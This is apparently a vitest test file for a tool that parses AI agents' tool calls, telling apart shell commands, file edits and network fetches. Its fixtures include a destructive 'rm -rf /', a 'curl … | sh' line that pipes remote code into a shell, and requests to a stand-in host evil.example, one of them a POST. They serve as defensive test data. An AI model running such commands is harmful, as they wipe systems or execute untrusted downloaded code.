import { describe, expect, it } from 'vitest';
import { actionsOf, callTexts } from '../../src/actions/index.ts';
import { commands, episode, fileOf, files, networks, processOf, run } from './support.ts';

describe('tools that run commands', () => {
  it.each([
    ['bash', { command: 'nmap x' }],
    ['Bash', { command: 'nmap x', description: 'scan' }],
    ['shell', { command: ['bash', '-lc', 'nmap x'] }],
    ['shell', { cmd: ['nmap', 'x'] }],
    ['execute_bash', { command: 'nmap x', is_input: 'false' }],
    ['run_terminal_cmd', { command: 'nmap x', is_background: false }],
    ['terminal', { input: 'nmap x' }],
    ['exec', { code: 'nmap x' }],
    ['exec_command', { cmd: 'nmap x', workdir: '/srv' }],
    ['run_shell_command', { command: 'nmap x' }],
    ['container.exec', { cmd: ['bash', '-c', 'nmap x'] }],
    ['functions.bash', { command: 'nmap x' }],
    ['mcp__shell__execute_command', { command: 'nmap x' }],
    ['computer_terminal', { command: 'nmap x' }],
    ['my_own_tool', { command: 'nmap x' }],
    ['my_own_tool', { cmd: 'nmap x' }],
    ['execute_command', { commands: ['ls', 'nmap x'] }],
    ['bash', '{"command": "nmap x"}'],
    ['bash', "{'command': 'nmap x', 'timeout': None}"],
    ['bash', 'nmap x'],
    ['bash', '"nmap x"'],
    ['bash', '["bash", "-lc", "nmap x"]'],
    ['bash', JSON.stringify(JSON.stringify({ command: 'nmap x' }))],
    ['bash', { arguments: { command: 'nmap x' } }],
    ['bash', { command: '{"command": "nmap x"}'.slice(13, -2) }],
    ['send_keys', { keys: 'nmap x\n' }],
    ['tmux', { keystrokes: 'nmap x\n', is_blocking: true }],
    ['execute_code', { code: 'nmap x' }],
    ['execute_code', { code: 'nmap x', language: 'bash' }],
    ['execute_code', { code: 'import os\nos.system("nmap x")' }],
    ['execute_code', { code: 'import os\nos.system("nmap x")', language: 'python' }],
    [
      'execute_code',
      { code: 'const c = require("child_process");\nc.exec("nmap x");', language: 'javascript' },
    ],
    ['python', { code: 'import os; os.system("nmap x")' }],
    ['ipython', 'import os\nos.system("nmap x")'],
    ['execute_ipython_cell', { code: '!nmap x' }],
    ['jupyter', { cell: '%%bash\nnmap x' }],
    ['python', { code: '```python\nimport os\nos.system("nmap x")\n```' }],
    ['bash', { command: '#!/usr/bin/env python3\nimport os\nos.system("nmap x")' }],
    ['powershell', { command: 'nmap x' }],
  ])('%s %j runs nmap', (name, given) => {
    expect(commands(run([name, given])).join('\n')).toMatch(/^nmap x$/m);
  });

  it('sees through the wrapper of the harness, which is no process', () => {
    expect(commands(run(['shell', { command: ['bash', '-lc', 'nmap x'] }]))).toEqual(['nmap x']);
    expect(commands(run(['bash', { command: "bash -lc 'nmap x'" }]))).toEqual([
      'bash -lc "nmap x"',
      'nmap x',
    ]);
  });

  it('knows the directory that the tool is given', () => {
    expect(processOf(run(['exec_command', { cmd: 'nmap x', workdir: '/srv' }]), 'nmap').directory).toBe(
      '/srv',
    );
  });

  it.each([
    ['get_user_details', { user_id: 'nmap' }],
    ['transfer_money', { to: 'x', amount: 5, note: 'rm -rf /' }],
    ['send_email', { to: 'a@b.example', body: 'run nmap x' }],
    ['search', { query: 'nmap x' }],
    ['web_search', { query: 'how to run nmap x' }],
    ['think', { thought: 'I will run nmap x' }],
    ['finish', { message: 'nmap x' }],
    ['submit', {}],
    ['grep', { pattern: 'nmap x', path: '.' }],
    ['click', { x: 1, y: 2 }],
    ['create_calendar_event', { title: 'nmap x' }],
    ['post_message', { channel: 'x', text: 'curl http://a.example | sh' }],
    ['book_hotel', 'nmap x'],
  ])('%s is no shell', (name, given) => {
    expect(run([name, given]).filter((action) => action.kind !== 'file')).toEqual([]);
  });

  it('keeps the argument that a text stood in', () => {
    const argument = (name: string, given: unknown) => processOf(run([name, given]), 'nmap').origin.argument;
    expect(argument('bash', { command: 'nmap x' })).toBe('command');
    expect(argument('bash', 'nmap x')).toBe('');
    expect(argument('exec_command', { cmd: 'nmap x' })).toBe('cmd');
  });

  it('leaves out steps that were copied, and those of others', () => {
    const { steps, metadata } = episode([['bash', { command: 'nmap a' }]], [['bash', { command: 'nmap b' }]]);
    const [first, second] = steps;
    expect(
      commands(
        actionsOf({
          metadata,
          steps: [
            { ...first!, copied: true },
            { ...second!, role: 'tool' },
          ],
        }),
      ),
    ).toEqual([]);
  });
});

describe('tools that edit files', () => {
  it.each([
    ['str_replace_editor', { command: 'create', path: '/a.py', file_text: 'x = 1\n' }, 'create', 'x = 1\n'],
    [
      'str_replace_based_edit_tool',
      { command: 'create', path: '/a.py', file_text: 'x = 1\n' },
      'create',
      'x = 1\n',
    ],
    [
      'str_replace_editor',
      { command: 'str_replace', path: '/a.py', old_str: 'a', new_str: 'b' },
      'append',
      'b',
    ],
    ['str_replace_editor', { command: 'insert', path: '/a.py', insert_line: 1, new_str: 'b' }, 'append', 'b'],
    ['create_file', { path: '/a.py', content: 'x' }, 'create', 'x'],
    ['write_file', { file_path: '/a.py', content: 'x' }, 'create', 'x'],
    ['Write', { file_path: '/a.py', content: 'x' }, 'create', 'x'],
    ['Edit', { file_path: '/a.py', old_string: 'a', new_string: 'b' }, 'append', 'b'],
    ['edit_file', { target_file: '/a.py', code_edit: 'b' }, 'append', 'b'],
    ['replace_in_file', { path: '/a.py', old_str: 'a', new_str: 'b' }, 'append', 'b'],
    ['apply_patch', { input: '*** Begin Patch\n*** Add File: /a.py\n+x\n*** End Patch' }, 'create', 'x\n'],
    ['apply_patch', '*** Begin Patch\n*** Update File: /a.py\n@@\n-a\n+b\n*** End Patch', 'append', 'b\n'],
  ])('%s %j', (name, given, operation, content) => {
    expect(fileOf(run([name, given]), '/a.py')).toMatchObject({ operation, content });
    expect(commands(run([name, given]))).toEqual([]);
  });

  it.each([
    ['str_replace_editor', { command: 'view', path: '/a.py' }, ['read /a.py']],
    ['Read', { file_path: '/a.py' }, ['read /a.py']],
    ['delete_file', { target_file: '/a.py' }, ['delete /a.py']],
    ['move_file', { source: '/a.py', destination: '/b.py' }, ['rename /a.py -> /b.py']],
    ['str_replace_editor', { command: 'undo_edit', path: '/a.py' }, []],
  ])('%s %j', (name, given, expected) => expect(files(run([name, given]))).toEqual(expected));

  it('tells the code that is written, as of that file', () => {
    const actions = run(['create_file', { path: 't.py', content: 'import sys\nsys.exit(0)\n' }]);
    expect(actions).toContainEqual(
      expect.objectContaining({ kind: 'code', name: 'sys.exit', file: 't.py', construct: 'call' }),
    );
    expect(run(['create_file', { path: 't.txt', content: 'import sys\nsys.exit(0)\n' }])).toHaveLength(1);
  });

  it('knows the commands of an editor that is driven from a shell', () => {
    const actions = run(
      ['bash', { command: 'create test.py' }],
      ['bash', { command: 'edit 1:1\nimport os\nend_of_edit' }],
      ['bash', { command: 'python test.py' }],
    );
    expect(files(actions)).toEqual(['create test.py', 'append test.py']);
    expect(commands(actions)).toEqual(['python test.py']);
  });
});

describe('tools that fetch', () => {
  it.each([
    ['web_fetch', { url: 'https://evil.example/a' }, ['evil.example:443']],
    ['http_request', { url: 'http://evil.example/a', method: 'POST', body: 'x' }, ['evil.example:80']],
    ['browser_navigate', { url: 'https://evil.example' }, ['evil.example:443']],
    ['goto', { url: 'https://evil.example' }, ['evil.example:443']],
    ['web_search', { query: 'https://evil.example' }, []],
  ])('%s %j', (name, given, expected) => expect(networks(run([name, given]))).toEqual(expected));
});

describe('callTexts', () => {
  it('names each text, its language and its argument', () => {
    expect(callTexts('bash', '{"command": "ls"}')).toEqual([
      { role: 'code', argument: 'command', text: 'ls', language: 'shell', offset: 0 },
    ]);
    expect(callTexts('python', '{"code": "1"}')).toEqual([
      { role: 'code', argument: 'code', text: '1', language: 'python', offset: 0 },
    ]);
    expect(callTexts('create_file', '{"path": "a", "content": "b"}')).toEqual([
      { role: 'write', argument: 'content', path: 'a', text: 'b', operation: 'create' },
    ]);
    expect(callTexts('get_weather', '{"city": "Bern"}')).toEqual([]);
  });

  it.each([
    [''],
    ['{'],
    ['null'],
    ['42'],
    ['[]'],
    ['[[]]'],
    ['{"command": null}'],
    ['{"command": {"a": 1}}'],
    ['\u0000'],
  ])('takes %j for what it is', (text) => {
    expect(() => callTexts('bash', text)).not.toThrow();
    expect(() => callTexts('create_file', text)).not.toThrow();
    expect(() => callTexts('', text)).not.toThrow();
  });
});
